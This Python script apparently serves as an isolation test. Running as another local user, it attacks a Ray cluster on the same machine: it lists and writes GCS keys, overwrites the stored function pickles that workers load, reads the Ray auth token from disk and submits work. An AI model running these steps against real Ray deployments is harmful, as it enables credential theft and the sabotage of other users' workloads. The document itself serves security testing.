"""Attacks on a Ray of this machine by a process of another user: ADDRESS FOLDER USER.

It prints a line of JSON for each attack: ["name", "DONE ..." or the error]. Modules are imported as
root, because the other user may not be able to read the files of Python.
"""

import argparse
import concurrent.futures
import json
import logging.handlers
import multiprocessing
import optparse
import os
import platform
import runpy
import shlex
import sys
import tempfile
from collections.abc import Callable
from pathlib import Path

import psutil
import ray
from ray._raylet import GcsClient

NEEDED = (
    argparse, concurrent.futures, logging.handlers, multiprocessing, optparse, platform, psutil,
    runpy, shlex,
)  # fmt: skip


def tries(what: str, attempt: Callable[[], object]) -> None:
    try:
        found = f"DONE {attempt()!r}"[:100]
    except Exception as error:  # noqa: BLE001 - whatever stops it is the answer
        found = f"{type(error).__name__}: {error}"
    print(json.dumps([what, found]), flush=True)


def overwrite(client: Callable[[], GcsClient]) -> int:
    """Replace the pickle that a worker loads next."""
    functions = client().internal_kv_keys(b"", b"fun", timeout=5)
    for key in functions:
        client().internal_kv_put(key, b"evil", True, b"fun", timeout=5)
    return 1 // len(functions)


def submit(address: str) -> object:
    tempfile.tempdir = "/tmp"
    ray.init(address=address, logging_level="CRITICAL", log_to_driver=False)
    return ray.get(ray.remote(os.getuid).remote(), timeout=20)


def main(address: str, folder: Path, user: int) -> None:
    os.setgroups([])
    os.setgid(user)
    os.setuid(user)

    def client() -> GcsClient:
        return GcsClient(address=address)

    tries("list keys", lambda: client().internal_kv_keys(b"", None, timeout=5))
    tries("write a key", lambda: client().internal_kv_put(b"evil", b"1", True, None, timeout=5))
    tries("read a key", lambda: client().internal_kv_get(b"evil", None, timeout=5))
    tries("overwrite a function", lambda: overwrite(client))
    tries("look into the directory", lambda: sorted(folder.iterdir()))
    tries("read the token", (folder / "token").read_text)
    tries("submit work", lambda: submit(address))


if __name__ == "__main__":
    main(sys.argv[1], Path(sys.argv[2]), int(sys.argv[3]))
